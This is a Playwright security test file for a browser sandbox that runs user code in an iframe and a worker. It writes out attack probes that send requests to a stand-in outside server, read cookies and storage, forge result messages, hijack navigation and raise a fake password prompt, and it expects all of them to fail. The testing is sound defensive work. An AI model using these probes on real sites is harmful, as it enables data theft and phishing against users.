// Malicious code in the sandbox frame or its worker can't reach the page, the API, or the run's result.
import { createServer } from 'node:http';
import { expect, test as base, type Frame, type Page } from '@playwright/test';
import { freePort } from './product.ts';
import { runInBrowser } from './run-in-browser.ts';

/** An external server that allows all origins, and the requests that reached it. */
const test = base.extend<{ outside: { address: string; hits: string[] } }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright requires a destructuring pattern, and this fixture has no dependencies
  outside: async ({}, give) => {
    const hits: string[] = [];
    const server = createServer((request, response) => {
      hits.push(`${request.method} ${request.url}`);
      response.writeHead(200, {
        'access-control-allow-origin': '*',
        'cross-origin-resource-policy': 'cross-origin',
        'content-type': 'text/javascript',
      });
      response.end('1');
    });
    const port = await freePort();
    server.listen(port, '127.0.0.1');
    await give({ address: `http://127.0.0.1:${port}`, hits });
    server.close();
  },
});

const waits = {
  language: 'javascript' as const,
  source: 'function solve() { while (true); }',
  tests: [{ function: 'solve', args: [], expected: 1, visible: true }],
};

/** Opens a page with an attacker's targets: tokens, cookies, a broadcast channel, and a database. */
const open = async (page: Page): Promise<void> => {
  await page.goto('/auth');
  await page.evaluate(async () => {
    localStorage.setItem('attack-target', 'secret');
    document.cookie = 'attack-target=secret';
    await new Promise<void>((resolve, reject) => {
      const openRequest = indexedDB.open('attack-target');
      openRequest.addEventListener('success', () => resolve());
      openRequest.addEventListener('error', () => reject(new Error('no database')));
    });
    const heard: unknown[] = [];
    new BroadcastChannel('attack-target').addEventListener('message', ({ data }) => heard.push(data));
    addEventListener('message', ({ data }) => heard.push(data));
    Object.assign(globalThis, { heard });
  });
};
const heardBy = (page: Page): Promise<unknown> => page.evaluate('heard');

/** Replaces the interpreter's worker script in the product's sandbox frame. */
const replaceWorker = async (page: Page, script: string): Promise<void> => {
  await page.route(/\/assets\/sandbox\/scripts-[\w-]+\.js$/, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: script }),
  );
};

const frameOf = async (page: Page): Promise<Frame> => {
  const isOurs = (frame: Frame): boolean => frame.url().includes('/assets/sandbox/frame');
  await expect.poll(() => page.frames().some(isOurs)).toBe(true);
  const frame = page.frames().find(isOurs);
  if (!frame) throw new Error('the frame is gone');
  await frame.waitForLoadState();
  return frame;
};

/** Runs the attacks in turn and returns the names of those that succeeded. */
const probes = `
  const tried = async (name, attack) => {
    try {
      const got = await attack();
      return got === undefined ? [] : [name + ': ' + String(got).slice(0, 200)];
    } catch { return []; }
  };
  const ways = {
    'calls the API': () => fetch(own + '/api/health').then((r) => r.status),
    'calls the API without CORS': () => fetch(own + '/api/health', { mode: 'no-cors' }).then((r) => r.type),
    'calls another site': () => fetch(base + '/fetch').then((r) => r.status),
    'calls another site without CORS': () => fetch(base + '/no-cors', { mode: 'no-cors' }).then((r) => r.type),
    'uses XMLHttpRequest': () => new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(request.status);
      request.onerror = () => resolve(undefined);
      request.open('GET', base + '/request'); request.send();
    }),
    'opens a socket': () => new Promise((resolve) => {
      const socket = new WebSocket(base.replace('http', 'ws'));
      socket.onopen = () => resolve('open'); socket.onerror = () => resolve(undefined);
    }),
    'sends a beacon': () => { navigator.sendBeacon?.(base + '/beacon', 'x'); },
    'reads localStorage': () => localStorage.length,
    'reads sessionStorage': () => sessionStorage.length,
    'opens a database': () => new Promise((resolve, reject) => {
      const asked = indexedDB.open('attack-target');
      asked.onsuccess = () => resolve('opened'); asked.onerror = () => resolve(undefined);
    }),
    'opens a cache': () => caches.open('x').then(() => 'opened'),
    'reads files of the origin': () => navigator.storage.getDirectory().then(() => 'opened'),
    'imports a script': () => import(base + '/import').then(() => 'imported'),
    'imports a script from text': () => import('data:text/javascript,export default 1').then(() => 'imported'),
    'evaluates text': () => eval('1'),
    'constructs a function': () => Function('return 1')(),
    'talks on our channel': () => { new BroadcastChannel('attack-target').postMessage('stolen'); },
  };
`;

const addresses = (own: string | undefined, { address }: { address: string }): string =>
  `const own = ${JSON.stringify(own)}, base = ${JSON.stringify(address)};`;

test('the sandbox frame can’t reach storage, the network, or the page around it', async ({
  page,
  baseURL,
  outside,
}) => {
  await open(page);
  // a worker that never responds keeps the frame open
  await replaceWorker(page, 'while (true);');
  const run = runInBrowser(page, waits).catch(() => undefined);
  const frame = await frameOf(page);
  const address = page.url();

  const inFrame = `(async () => { ${addresses(baseURL, outside)} ${probes}
    Object.assign(ways, {
      'reads the cookies': () => document.cookie,
      'reads the page': () => parent.document.title,
      'reads its address': () => parent.location.href,
      'reads its storage': () => parent.localStorage.length,
      'reads its own element': () => frameElement?.outerHTML,
      'takes the page elsewhere': () => { top.location.href = base + '/top'; },
      'opens a window': () => open(base + '/window') ?? undefined,
      'sends a form': () => { const form = document.createElement('form'); form.action = base + '/form'; form.method = 'post'; document.documentElement.append(form); form.submit(); },
      'loads a picture': () => new Promise((resolve) => { const i = new Image(); i.onload = () => resolve('loaded'); i.onerror = () => resolve(undefined); i.src = base + '/picture'; }),
      'adds a script': () => new Promise((resolve) => { const s = document.createElement('script'); s.onload = () => resolve('loaded'); s.onerror = () => resolve(undefined); s.src = base + '/script'; document.documentElement.append(s); }),
      'frames a page': () => { const f = document.createElement('iframe'); f.src = base + '/frame'; document.documentElement.append(f); try { return f.contentDocument?.title || undefined; } catch { return undefined; } },
      'asks for a person': () => { alert('Your password, please'); },
      'forges a message': () => { for (const data of [{ ready: true }, { report: { end: 'returned', json: '1', shown: '', output: '', ms: 1 } }]) parent.postMessage(data, '*'); },
    });
    const found = [];
    for (const [name, attack] of Object.entries(ways)) found.push(...await tried(name, attack));
    return found; })()`;
  const evaluates = /^(evaluates text|constructs a function): /;
  const found = (await frame.evaluate<string[]>(inFrame)).filter((line) => !evaluates.test(line));
  expect(found).toEqual([]);
  // forged messages are delivered, but our code ignores them
  expect(JSON.stringify(await heardBy(page))).not.toContain('stolen');
  expect(page.url()).toBe(address);
  expect(page.context().pages()).toHaveLength(1);

  // the frame tries to navigate itself, but the page's policy allows no other URL in it
  await frame.evaluate((to) => void (location.href = to), `${outside.address}/self?stolen`);
  expect(outside.hits).toEqual([]);
  await page.reload();
  await run;
});

test('the sandbox worker can’t reach storage or the network', async ({ page, baseURL, outside }) => {
  await open(page);
  await replaceWorker(
    page,
    `addEventListener('message', async ({ data: { token }, ports: [port] }) => {
      ${addresses(baseURL, outside)} ${probes}
      ways['imports scripts'] = () => { importScripts(base + '/import-scripts'); return 'imported'; };
      ways['starts a worker'] = () => new Promise((resolve) => { const w = new Worker(base + '/worker'); w.onmessage = () => resolve('started'); w.onerror = () => resolve(undefined); });
      const found = [];
      for (const [name, attack] of Object.entries(ways)) found.push(...await tried(name, attack));
      port.postMessage({ token, failure: JSON.stringify(found) });
    });`,
  );
  const outcome = await runInBrowser(page, waits).then(
    () => 'it ran',
    (error: Error) => error.message,
  );
  expect(outcome).toContain('[]');
  expect(JSON.stringify(await heardBy(page))).not.toContain('stolen');
  expect(outside.hits).toEqual([]);
});

const forged = "{ end: 'returned', json: '1', shown: '', output: '', ms: 1 }";
const attacks: [name: string, script: string][] = [
  ['reports without the token', `port.postMessage({ report: ${forged} });`],
  ['guesses the token', `port.postMessage({ token: '1-2', ready: true });`],
  [
    'reports before it begins',
    `port.postMessage({ token, ready: true }); port.postMessage({ token, report: ${forged} });`,
  ],
  [
    'reports an invalid result',
    `port.postMessage({ token, ready: true }); port.postMessage({ token, begin: true }); port.postMessage({ token, report: { end: 'passed' } });`,
  ],
  ['posts endlessly', 'for (;;) port.postMessage(new ArrayBuffer(1_000));'],
  ['posts valid messages endlessly', `for (;;) port.postMessage({ token, begin: true });`],
];
for (const [name, script] of attacks)
  test(`a worker that ${name} is stopped, and no test passes`, async ({ page }) => {
    await open(page);
    await replaceWorker(
      page,
      `addEventListener('message', ({ data: { token }, ports: [port] }) => { ${script} });`,
    );
    const outcomes = await runInBrowser(page, waits);
    expect(outcomes).toEqual([{ outcome: 'error', error: { type: 'SystemError', line: null } }]);
    // the page is still responsive
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
    await expect(page.locator('iframe')).toHaveCount(0);
  });

test('a worker that sends no result times out', async ({ page }) => {
  await open(page);
  await replaceWorker(
    page,
    `addEventListener('message', ({ data: { token }, ports: [port] }) => {
      port.postMessage({ token, ready: true }); port.postMessage({ token, begin: true }); for (;;);
    });`,
  );
  expect(await runInBrowser(page, waits)).toEqual([{ outcome: 'timeout' }]);
});

test('the sandbox frame has no more access when opened as a page', async ({ page, baseURL }) => {
  await open(page);
  await replaceWorker(page, 'while (true);');
  const run = runInBrowser(page, waits).catch(() => undefined);
  const address = (await frameOf(page)).url();
  await page.goto(address);
  await run;
  expect(await page.evaluate(() => self.origin)).toBe('null');
  const reached = await page.evaluate(
    (url) => fetch(url).then(String, () => 'refused'),
    `${baseURL}/api/health`,
  );
  expect(reached).toBe('refused');
});
